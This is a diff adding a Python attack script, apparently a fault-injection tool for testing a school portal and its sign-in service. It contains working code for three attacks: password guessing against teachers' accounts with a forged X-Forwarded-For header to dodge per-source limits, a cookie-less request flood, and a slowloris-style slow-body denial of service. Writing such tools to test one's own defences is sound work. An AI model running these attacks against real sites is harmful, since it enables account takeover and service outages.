@@ -1,0 +1,114 @@
+"""Somebody who attacks in further ways: `python -m bench.faults.second.raider SITE KIND --per-s R --seconds S`.
+
+guess     passwords for three teachers' names, each try from another network
+courses   the portal's courses page without cookies, from everywhere, as fast as asked for
+bodies    forms for the portal whose content comes a byte at a time and never ends; R is how many are held
+"""
+
+from __future__ import annotations
+
+import argparse
+import itertools
+import json
+import secrets
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
+from dataclasses import dataclass
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import httpx
+
+from bench.faults.attacker import AGENT, form_token
+from school.auth.config import AuthConfig
+from school.config import load
+from school.portal.config import PortalConfig
+
+_AT_ONCE = 32
+_NAMES = 3
+_DRIP_S = 2.0
+
+
+@dataclass(frozen=True, slots=True)
+class Aim:
+    """Where the two services are, and the names that are tried."""
+
+    provider: str
+    portal: str
+    names: tuple[str, ...]
+
+
+def main() -> None:
+    """Attack until the time is over."""
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("site", type=Path)
+    parser.add_argument("kind", choices=("guess", "courses", "bodies"))
+    parser.add_argument("--per-s", type=float, default=8.0)
+    parser.add_argument("--seconds", type=float, default=150.0)
+    asked = parser.parse_args()
+    people = json.loads((asked.site / "secrets/people.json").read_text())
+    aim = Aim(
+        provider=load(asked.site / "auth.toml", AuthConfig).service.public_url,
+        portal=load(asked.site / "portal.toml", PortalConfig).service.public_url,
+        names=tuple(one["username"] for one in people if one["role"] == "teacher")[:_NAMES],
+    )
+    if asked.kind == "bodies":
+        _hold(aim, int(asked.per_s), asked.seconds)
+        return
+    until, at = time.monotonic() + asked.seconds, time.monotonic()
+    attempt, sources = {"guess": _guess, "courses": _courses}[asked.kind], _sources()
+    with ThreadPoolExecutor(_AT_ONCE) as pool:
+        while time.monotonic() < until:
+            pool.submit(attempt, aim, next(sources))
+            at += 1 / asked.per_s
+            threading.Event().wait(max(0.0, at - time.monotonic()))
+
+
+def _sources() -> Iterator[str]:
+    for number in itertools.count():
+        yield f"100.{64 + number % 50}.{number % 250}.13"
+
+
+def _browser(source: str) -> httpx.Client:
+    return httpx.Client(headers={"User-Agent": AGENT, "X-Forwarded-For": source}, timeout=15, trust_env=False)
+
+
+def _guess(aim: Aim, source: str) -> None:
+    with suppress(httpx.HTTPError), _browser(source) as browser:
+        page = browser.get(f"{aim.provider}/sign-in/")
+        typed = {"username": secrets.choice(aim.names), "password": secrets.token_urlsafe(8)}
+        browser.post(f"{aim.provider}/sign-in/", data=typed | {"csrfmiddlewaretoken": form_token(page.text)})
+
+
+def _courses(aim: Aim, source: str) -> None:
+    with suppress(httpx.HTTPError), _browser(source) as browser:
+        browser.get(f"{aim.portal}/courses/", follow_redirects=True)
+
+
+def _hold(aim: Aim, count: int, seconds: float) -> None:
+    """A byte every two seconds on each connection; one that was closed is opened again."""
+    at = urlsplit(aim.portal)
+    head = f"POST /cannot-sign-in/ HTTP/1.1\r\nHost: {at.netloc}\r\nContent-Length: 100000\r\n"
+    head += f"Content-Type: application/x-www-form-urlencoded\r\nUser-Agent: {AGENT}\r\n\r\n"
+    held: list[socket.socket] = []
+    until = time.monotonic() + seconds
+    while time.monotonic() < until:
+        for connection in list(held):
+            try:
+                connection.sendall(b"a")
+            except OSError:
+                held.remove(connection)
+        with suppress(OSError):
+            while len(held) < count:
+                connection = socket.create_connection((at.hostname or "", at.port or 80), timeout=2)
+                connection.sendall(head.encode())
+                held.append(connection)
+        threading.Event().wait(_DRIP_S)
+
+
+if __name__ == "__main__":
+    main()
